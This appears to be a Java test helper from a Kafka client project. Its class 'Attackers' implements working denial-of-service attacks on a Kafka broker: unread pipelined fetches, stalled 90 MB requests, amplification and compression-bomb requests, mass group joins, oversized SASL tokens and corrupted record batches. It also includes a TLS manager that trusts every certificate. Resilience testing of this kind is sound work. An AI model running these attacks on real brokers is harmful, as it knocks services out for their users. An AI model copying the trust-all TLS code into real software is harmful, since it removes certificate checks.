package gregor.kafka;

import module java.base;

import java.security.cert.X509Certificate;
import gregor.list.Event;
import gregor.list.ListBatch;
import gregor.packed.Codec;
import gregor.packed.PackedBatch;
import gregor.packed.PoisonBatches;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.NewTopic;
import org.apache.kafka.clients.consumer.OffsetAndMetadata;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.message.ApiVersionsRequestData;
import org.apache.kafka.common.message.ConsumerGroupDescribeRequestData;
import org.apache.kafka.common.message.ConsumerGroupHeartbeatRequestData;
import org.apache.kafka.common.message.CreatePartitionsRequestData;
import org.apache.kafka.common.message.CreatePartitionsRequestData.CreatePartitionsTopic;
import org.apache.kafka.common.message.CreateTopicsRequestData;
import org.apache.kafka.common.message.CreateTopicsRequestData.CreatableTopic;
import org.apache.kafka.common.message.DeleteTopicsRequestData;
import org.apache.kafka.common.message.DescribeConfigsRequestData;
import org.apache.kafka.common.message.DescribeGroupsRequestData;
import org.apache.kafka.common.message.DescribeTopicPartitionsRequestData;
import org.apache.kafka.common.message.FetchRequestData;
import org.apache.kafka.common.message.JoinGroupRequestData;
import org.apache.kafka.common.message.JoinGroupRequestData.JoinGroupRequestProtocol;
import org.apache.kafka.common.message.ListGroupsRequestData;
import org.apache.kafka.common.message.ListOffsetsRequestData;
import org.apache.kafka.common.message.MetadataRequestData;
import org.apache.kafka.common.message.OffsetCommitRequestData;
import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestPartition;
import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestTopic;
import org.apache.kafka.common.message.OffsetFetchRequestData;
import org.apache.kafka.common.message.ProduceRequestData;
import org.apache.kafka.common.message.SaslAuthenticateRequestData;
import org.apache.kafka.common.message.SaslHandshakeRequestData;
import org.apache.kafka.common.protocol.ApiKeys;
import org.apache.kafka.common.protocol.ApiMessage;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.serialization.ByteArraySerializer;

/// Clients that try to make a broker unusable for others. Each method is one attack, which ends when `running` returns
/// false. Connections that the broker closes are opened again.
final class Attackers {
    static final String LARGE = "large-events";
    private static final String VICTIM = "large-group";
    private static final int LARGE_RECORDS = 9;
    private static final int LARGE_PARTITIONS = 100;
    private static final int MEGABYTE = 1 << 20;
    /// The position in a record batch of the first byte that the checksum covers.
    private static final int ATTRIBUTES_AT = 21;
    private static final SSLContext TRUSTING = trusting();

    private final InetSocketAddress broker;
    private final BooleanSupplier running;

    /// @param running whether the attack goes on
    Attackers(InetSocketAddress broker, BooleanSupplier running) {
        this.broker = broker;
        this.running = running;
    }

    private interface Exchange {
        void with(Socket socket) throws IOException;
    }

    private void again(Exchange exchange) {
        again(null, exchange);
    }

    private void again(InetAddress from, Exchange exchange) {
        while (running.getAsBoolean()) {
            try (var socket = new Socket(broker.getAddress(), broker.getPort(), from, 0)) {
                socket.setSoTimeout(2_000);
                exchange.with(socket);
            } catch (IOException e) {
                // The broker has closed the connection, or answers slowly; that is what this attack is for.
            }
        }
    }

    private static byte[] sized(byte[] frame) {
        return ByteBuffer.allocate(Integer.BYTES + frame.length).putInt(frame.length).put(frame).array();
    }

    private static void send(Socket socket, ApiMessage request, int version) throws IOException {
        socket.getOutputStream().write(sized(RawClient.body(request, version, 1)));
    }

    private static void skipAnswer(Socket socket) throws IOException {
        byte[] size = socket.getInputStream().readNBytes(Integer.BYTES);
        if (size.length < Integer.BYTES) {
            throw new IOException("the broker has closed the connection");
        }
        socket.getInputStream().skipNBytes(ByteBuffer.wrap(size).getInt());
    }

    /// Writes the topic that [#fetchWithoutReading] asks for.
    static void prepare(Map<String, Object> settings) throws Exception {
        try (Admin admin = Admin.create(settings);
                var producer = new KafkaProducer<>(settings, new ByteArraySerializer(), new ByteArraySerializer())) {
            admin.createTopics(List.of(new NewTopic(LARGE, LARGE_PARTITIONS, (short) 1))).all().get();
            for (int i = 0; i < LARGE_RECORDS; i++) {
                producer.send(new ProducerRecord<>(LARGE, 0, null, new byte[1_000_000])).get();
            }
            producer.send(new ProducerRecord<>(LARGE, 1, null, new byte[10])).get();
            admin.alterConsumerGroupOffsets(VICTIM,
                    IntStream.range(0, LARGE_PARTITIONS).boxed()
                            .collect(Collectors.toMap(number -> new TopicPartition(LARGE, number),
                                    number -> new OffsetAndMetadata(0, "x".repeat(4_000)))))
                    .all().get();
        }
    }

    /// Asks on 30 connections for 20 responses of 8 MB each, and reads none.
    void fetchWithoutReading() throws Exception {
        var fetch = new FetchRequestData().setMaxBytes(8 * MEGABYTE)
                .setTopics(List.of(new FetchRequestData.FetchTopic().setTopic(LARGE).setPartitions(
                        List.of(new FetchRequestData.FetchPartition().setPartitionMaxBytes(8 * MEGABYTE)))));
        holdUnread(30, repeated(sized(RawClient.body(fetch, 12, 1)), 20));
    }

    /// Asks on many connections for responses without an end, and reads none.
    void pipelineWithoutReading(int connections, ApiMessage request, int version) throws Exception {
        holdUnread(connections, repeated(sized(RawClient.body(request, version, 1)), 2_000));
    }

    /// The same over TLS, on connections that have all shaken hands.
    void pipelineOverTls(int connections, ApiMessage request, int version) throws Exception {
        byte[] requests = repeated(sized(RawClient.body(request, version, 1)), 2_000);
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            for (int i = 0; i < connections; i++) {
                InetAddress from = local(i);
                threads.submit(() -> again(from, plain -> pushOverTls(plain, requests)));
            }
        }
    }

    private void pushOverTls(Socket plain, byte[] requests) throws IOException {
        SSLSocket socket = (SSLSocket) TRUSTING.getSocketFactory().createSocket(plain, "127.0.0.1", plain.getPort(),
                false);
        // The broker stops reading when it can write no more, so the last write ends when the broker ends it.
        Thread closer = Thread.startVirtualThread(() -> closeAtEnd(plain));
        try {
            while (running.getAsBoolean()) {
                socket.getOutputStream().write(requests);
            }
        } finally {
            closer.interrupt();
        }
    }

    private void closeAtEnd(Socket socket) {
        try {
            while (running.getAsBoolean()) {
                Thread.sleep(100);
            }
            socket.close();
        } catch (InterruptedException | IOException e) {
            // The broker has closed the connection.
        }
    }

    private static SSLContext trusting() {
        try {
            SSLContext context = SSLContext.getInstance("TLS");
            context.init(null, new TrustManager[]{new TrustsAll()}, null);
            return context;
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /// Accepts every certificate.
    private static final class TrustsAll extends X509ExtendedTrustManager {
        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type) {}

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type, Socket socket) {}

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type, SSLEngine engine) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type, Socket socket) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type, SSLEngine engine) {}

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }

    static ApiMessage allTopics() {
        return new MetadataRequestData().setTopics(null);
    }

    static ApiMessage versions() {
        return new ApiVersionsRequestData();
    }

    /// Announces requests of 90 MB on some connections, sends nearly all of each, and waits.
    void sendLargeRequestsWithoutEnd(int connections) throws Exception {
        int bytes = 90 * MEGABYTE;
        byte[] part = new byte[MEGABYTE];
        var open = new ArrayList<SocketChannel>();
        while (running.getAsBoolean()) {
            for (int i = open.size(); i < connections; i++) {
                connect(i).ifPresent(channel -> {
                    push(channel, ByteBuffer.allocate(Integer.BYTES).putInt(bytes).array());
                    open.add(channel);
                });
            }
            open.removeIf(channel -> !push(channel, part));
            Thread.sleep(1);
        }
        for (SocketChannel channel : open) {
            channel.close();
        }
    }

    private static byte[] repeated(byte[] bytes, int times) {
        ByteBuffer all = ByteBuffer.allocate(bytes.length * times);
        for (int i = 0; i < times; i++) {
            all.put(bytes);
        }
        return all.array();
    }

    private void holdUnread(int count, byte[] requests) throws Exception {
        var open = new ArrayList<SocketChannel>();
        while (running.getAsBoolean()) {
            for (int i = open.size(); i < count && running.getAsBoolean(); i++) {
                connect(i).ifPresent(open::add);
            }
            for (SocketChannel channel : List.copyOf(open)) {
                if (!push(channel, requests)) {
                    channel.close();
                    open.remove(channel);
                }
            }
            Thread.sleep(50);
        }
        for (SocketChannel channel : open) {
            channel.close();
        }
    }

    /// One address may have half of the connections of a broker, so these come from two, on Linux.
    private static InetAddress local(int number) {
        return InetAddress
                .ofLiteral(System.getProperty("os.name").equals("Linux") ? "127.0.0." + (2 + number % 2) : "127.0.0.1");
    }

    private java.util.Optional<SocketChannel> connect(int number) {
        try {
            SocketChannel channel = SocketChannel.open();
            channel.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
            channel.bind(new InetSocketAddress(local(number), 0));
            channel.connect(broker);
            channel.configureBlocking(false);
            return java.util.Optional.of(channel);
        } catch (IOException e) {
            return java.util.Optional.empty();
        }
    }

    private static boolean push(SocketChannel channel, byte[] bytes) {
        try {
            channel.write(ByteBuffer.wrap(bytes));
            return true;
        } catch (IOException e) {
            return false;
        }
    }

    /// Sends each kind of request with 20,000 equal elements in each of its arrays, and every other time leaves before
    /// the answer.
    void repeatElements() {
        List<byte[]> requests = repeatedElements(new Random(5));
        var random = new Random();
        again(socket -> {
            socket.getOutputStream().write(requests.get(random.nextInt(requests.size())));
            if (random.nextBoolean()) {
                skipAnswer(socket);
            }
        });
    }

    private static List<byte[]> repeatedElements(Random random) {
        var requests = new ArrayList<byte[]>();
        for (ApiKeys api : SERVED) {
            var trees = new SchemaRequests(random);
            int places = SchemaRequests.places(trees.make(api, api.latestVersion())).size();
            for (int i = 0; i < places; i++) {
                var tree = trees.make(api, api.latestVersion());
                List<SchemaRequests.Place> all = SchemaRequests.places(tree);
                if (i < all.size() && all.get(i).value() instanceof Object[] elements) {
                    all.get(i).set(SchemaRequests.multiplied(elements, 20_000));
                    requests.add(sized(tree.frame()));
                }
            }
        }
        return requests;
    }

    /// Names a topic, a group or a partition that exists 50,000 times in one request, so that the response would have
    /// as many copies of what the broker knows of it.
    void amplify() {
        List<byte[]> requests = amplified(50_000);
        var random = new Random();
        again(socket -> {
            socket.setSoTimeout(20_000);
            socket.getOutputStream().write(requests.get(random.nextInt(requests.size())));
            skipAnswer(socket);
        });
    }

    /// Sends requests of half a megabyte with 1,000 batches that decompress to 10 MiB each, and does not wait for an answer
    /// every other time.
    void sendCompressedZeros() {
        ByteBuffer zeros = PoisonBatches.zeros(10 * MEGABYTE, System.currentTimeMillis());
        var partitions = Collections.nCopies(1_000, new ProduceRequestData.PartitionProduceData().setIndex(2)
                .setRecords(MemoryRecords.readableRecords(zeros)));
        var topics = new ProduceRequestData.TopicProduceDataCollection();
        topics.add(new ProduceRequestData.TopicProduceData().setName(LARGE).setPartitionData(partitions));
        byte[] request = sized(RawClient
                .body(new ProduceRequestData().setAcks((short) -1).setTimeoutMs(1000).setTopicData(topics), 9, 1));
        var random = new Random();
        again(socket -> {
            socket.getOutputStream().write(request);
            if (random.nextBoolean()) {
                skipAnswer(socket);
            }
        });
    }

    private static List<byte[]> amplified(int times) {
        var configs = new DescribeConfigsRequestData().setIncludeSynonyms(true).setIncludeDocumentation(true)
                .setResources(Collections.nCopies(times, new DescribeConfigsRequestData.DescribeConfigsResource()
                        .setResourceType((byte) 2).setResourceName(LARGE).setConfigurationKeys(null)));
        var offsets = new OffsetFetchRequestData().setGroups(Collections.nCopies(times,
                new OffsetFetchRequestData.OffsetFetchRequestGroup().setGroupId(VICTIM).setTopics(null)));
        var fetch = new FetchRequestData().setMaxBytes(Integer.MAX_VALUE).setTopics(
                List.of(new FetchRequestData.FetchTopic().setTopic(LARGE).setPartitions(Collections.nCopies(times,
                        new FetchRequestData.FetchPartition().setPartition(1).setPartitionMaxBytes(1_000)))));
        var list = new ListOffsetsRequestData().setReplicaId(-1).setTopics(
                List.of(new ListOffsetsRequestData.ListOffsetsTopic().setName(LARGE).setPartitions(Collections
                        .nCopies(times, new ListOffsetsRequestData.ListOffsetsPartition().setTimestamp(1)))));
        List<String> group = Collections.nCopies(times, VICTIM);
        List<String> topic = Collections.nCopies(times, LARGE);
        return Stream.of(RawClient.body(configs, 4, 1), RawClient.body(offsets, 8, 1), RawClient.body(fetch, 12, 1),
                RawClient.body(list, 6, 1), RawClient.body(new DescribeGroupsRequestData().setGroups(group), 5, 1),
                RawClient.body(new ConsumerGroupDescribeRequestData().setGroupIds(group), 1, 1),
                RawClient.body(new DescribeTopicPartitionsRequestData().setTopics(topic.stream()
                        .map(name -> new DescribeTopicPartitionsRequestData.TopicRequest().setName(name)).toList()), 0,
                        1))
                .map(Attackers::sized).toList();
    }

    /// The kinds of requests with arrays that a broker reads into objects.
    static final List<ApiKeys> SERVED = List.of(ApiKeys.METADATA, ApiKeys.CREATE_TOPICS, ApiKeys.CREATE_PARTITIONS,
            ApiKeys.PRODUCE, ApiKeys.FETCH, ApiKeys.LIST_OFFSETS, ApiKeys.OFFSET_FOR_LEADER_EPOCH, ApiKeys.JOIN_GROUP,
            ApiKeys.SYNC_GROUP, ApiKeys.LEAVE_GROUP, ApiKeys.HEARTBEAT, ApiKeys.CONSUMER_GROUP_HEARTBEAT,
            ApiKeys.CONSUMER_GROUP_DESCRIBE, ApiKeys.OFFSET_COMMIT, ApiKeys.OFFSET_FETCH, ApiKeys.OFFSET_DELETE,
            ApiKeys.DESCRIBE_GROUPS, ApiKeys.LIST_GROUPS, ApiKeys.DELETE_GROUPS, ApiKeys.DELETE_TOPICS,
            ApiKeys.DELETE_RECORDS, ApiKeys.DESCRIBE_CONFIGS, ApiKeys.ALTER_CONFIGS, ApiKeys.INCREMENTAL_ALTER_CONFIGS,
            ApiKeys.DESCRIBE_LOG_DIRS, ApiKeys.DESCRIBE_TOPIC_PARTITIONS, ApiKeys.DESCRIBE_CLUSTER,
            ApiKeys.DESCRIBE_PRODUCERS, ApiKeys.DESCRIBE_ACLS, ApiKeys.CREATE_ACLS, ApiKeys.DELETE_ACLS,
            ApiKeys.FIND_COORDINATOR, ApiKeys.INIT_PRODUCER_ID, ApiKeys.API_VERSIONS, ApiKeys.SASL_HANDSHAKE);

    /// Joins ever new groups, under names as long as a request can have.
    void joinNewGroups() {
        joinNewGroups(32_000, null, 10);
    }

    /// Joins ever new groups as a static member, which is a member at once, with 100 kB for the others.
    void joinNewGroupsAsStaticMember() {
        joinNewGroups(100, "instance", 100_000);
    }

    private void joinNewGroups(int nameLength, String instance, int bytes) {
        var random = new Random();
        again(socket -> {
            for (int i = 0; i < 100 && running.getAsBoolean(); i++) {
                var protocols = new JoinGroupRequestData.JoinGroupRequestProtocolCollection();
                protocols.add(new JoinGroupRequestProtocol().setName("range").setMetadata(new byte[bytes]));
                // The longest that a group can have, or the longest that a request can have.
                int length = Math.min(nameLength, random.nextBoolean() ? 900 : nameLength);
                send(socket,
                        new JoinGroupRequestData().setGroupId(random.nextLong() + "g".repeat(length))
                                .setGroupInstanceId(instance).setMemberId("").setSessionTimeoutMs(1_800_000)
                                .setRebalanceTimeoutMs(1_800_000).setProtocolType("consumer").setProtocols(protocols),
                        9);
                skipAnswer(socket);
            }
        });
    }

    /// Joins ever new groups of the newer protocol, in which the broker assigns all partitions of a topic.
    void joinNewConsumerGroups() {
        var random = new Random();
        again(socket -> {
            for (int i = 0; i < 100 && running.getAsBoolean(); i++) {
                send(socket,
                        new ConsumerGroupHeartbeatRequestData().setGroupId("c" + random.nextLong())
                                .setMemberId("m" + random.nextLong()).setMemberEpoch(0).setRebalanceTimeoutMs(60_000)
                                .setSubscribedTopicNames(List.of(LARGE)).setTopicPartitions(List.of()),
                        1);
                skipAnswer(socket);
            }
        });
    }

    /// Commits offsets with long metadata for a new group each time.
    void commitForNewGroups() {
        var random = new Random();
        again(socket -> {
            for (int i = 0; i < 100 && running.getAsBoolean(); i++) {
                var partitions = IntStream.range(0, 20).mapToObj(number -> new OffsetCommitRequestPartition()
                        .setPartitionIndex(number).setCommittedOffset(1).setCommittedMetadata("x".repeat(4_096)))
                        .toList();
                send(socket,
                        new OffsetCommitRequestData().setGroupId("o" + random.nextLong()).setMemberId("")
                                .setGenerationIdOrMemberEpoch(-1)
                                .setTopics(List
                                        .of(new OffsetCommitRequestTopic().setName(LARGE).setPartitions(partitions))),
                        8);
                skipAnswer(socket);
            }
        });
    }

    /// Lists groups with as many empty filters as a request can have, and more.
    void listGroupsWithManyFilters() {
        List<byte[]> requests = Stream.of(60_000, 90_000, 1_000_000)
                .map(count -> sized(RawClient
                        .body(new ListGroupsRequestData().setStatesFilter(Collections.nCopies(count, "")), 4, 1)))
                .toList();
        var random = new Random();
        again(socket -> {
            socket.getOutputStream().write(requests.get(random.nextInt(requests.size())));
            skipAnswer(socket);
        });
    }

    /// Fetches as much as it can of all partitions, and reads it.
    void fetchAll() {
        var fetch = new FetchRequestData()
                .setMaxBytes(
                        Integer.MAX_VALUE)
                .setTopics(
                        List.of(new FetchRequestData.FetchTopic().setTopic(LARGE)
                                .setPartitions(
                                        IntStream.range(0, LARGE_PARTITIONS)
                                                .mapToObj(number -> new FetchRequestData.FetchPartition()
                                                        .setPartition(number).setPartitionMaxBytes(Integer.MAX_VALUE))
                                                .toList())));
        again(socket -> {
            send(socket, fetch, 12);
            skipAnswer(socket);
        });
    }

    /// Logs in with messages of thousands of attributes.
    void sendManyAttributes() {
        byte[] token = ("n,,n=user,r=abc" + ",x=1".repeat(4_000)).getBytes(StandardCharsets.UTF_8);
        again(socket -> {
            send(socket, new SaslHandshakeRequestData().setMechanism("SCRAM-SHA-256"), 1);
            skipAnswer(socket);
            send(socket, new SaslAuthenticateRequestData().setAuthBytes(token), 2);
            skipAnswer(socket);
        });
    }

    /// Sends batches with the right checksum and something else wrong, and reads them.
    void sendBrokenBatches() {
        var random = new Random();
        byte[] good = PackedBatch
                .of(ListBatch.of(Event.of("key", "a value"), Event.of("key", "another value")), Codec.NONE).bytes()
                .array();
        var read = new FetchRequestData().setMaxBytes(MEGABYTE)
                .setTopics(List.of(new FetchRequestData.FetchTopic().setTopic(LARGE).setPartitions(List
                        .of(new FetchRequestData.FetchPartition().setPartition(2).setPartitionMaxBytes(MEGABYTE)))));
        again(socket -> {
            send(socket, produce(LARGE, 2, broken(good, random)), 9);
            skipAnswer(socket);
            send(socket, read, 12);
            skipAnswer(socket);
            pause(5);
        });
    }

    private static byte[] broken(byte[] good, Random random) {
        byte[] bytes = good.clone();
        for (int i = 0; i <= random.nextInt(4); i++) {
            bytes[ATTRIBUTES_AT + random.nextInt(bytes.length - ATTRIBUTES_AT)] = (byte) random.nextInt();
        }
        var checksum = new CRC32C();
        checksum.update(bytes, ATTRIBUTES_AT, bytes.length - ATTRIBUTES_AT);
        ByteBuffer.wrap(bytes).putInt(ATTRIBUTES_AT - Integer.BYTES, (int) checksum.getValue());
        return bytes;
    }

    private static ProduceRequestData produce(String topic, int partition, byte[] records) {
        var topics = new ProduceRequestData.TopicProduceDataCollection();
        topics.add(new ProduceRequestData.TopicProduceData().setName(topic)
                .setPartitionData(List.of(new ProduceRequestData.PartitionProduceData().setIndex(partition)
                        .setRecords(MemoryRecords.readableRecords(ByteBuffer.wrap(records))))));
        return new ProduceRequestData().setAcks((short) -1).setTimeoutMs(5_000).setTopicData(topics);
    }

    private static void pause(int millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    /// Joins one group of the newer protocol as ever new members, until it has 1,000.
    void joinOneGroup() {
        var random = new Random();
        again(socket -> {
            for (int i = 0; i < 100 && running.getAsBoolean(); i++) {
                send(socket,
                        new ConsumerGroupHeartbeatRequestData().setGroupId("crowd").setMemberId("m" + random.nextLong())
                                .setMemberEpoch(0).setRebalanceTimeoutMs(60_000).setSubscribedTopicNames(List.of(LARGE))
                                .setTopicPartitions(List.of()),
                        1);
                skipAnswer(socket);
            }
        });
    }

    /// Creates topics with numbers of partitions that a broken client could send, and some that are allowed.
    ///
    /// @param most partitions of the largest topic that is allowed
    void createPartitions(int most) {
        List<Integer> counts = List.of(Integer.MAX_VALUE, 1 << 30, 1 << 24, 1_000_000, 100_000, most, 100);
        again(socket -> {
            for (int count : counts) {
                var topics = new CreateTopicsRequestData.CreatableTopicCollection();
                topics.add(new CreatableTopic().setName("broken-" + count).setNumPartitions(count)
                        .setReplicationFactor((short) 1));
                send(socket, new CreateTopicsRequestData().setTopics(topics), 4);
                var more = new CreatePartitionsRequestData.CreatePartitionsTopicCollection();
                more.add(new CreatePartitionsTopic().setName("broken-100").setCount(count).setAssignments(null));
                send(socket, new CreatePartitionsRequestData().setTopics(more), 3);
                send(socket, new DeleteTopicsRequestData().setTopicNames(List.of("broken-" + count)), 5);
            }
            socket.setSoTimeout(60_000);
            for (int i = 0; i < 3 * counts.size() && running.getAsBoolean(); i++) {
                skipAnswer(socket);
            }
        });
    }
}
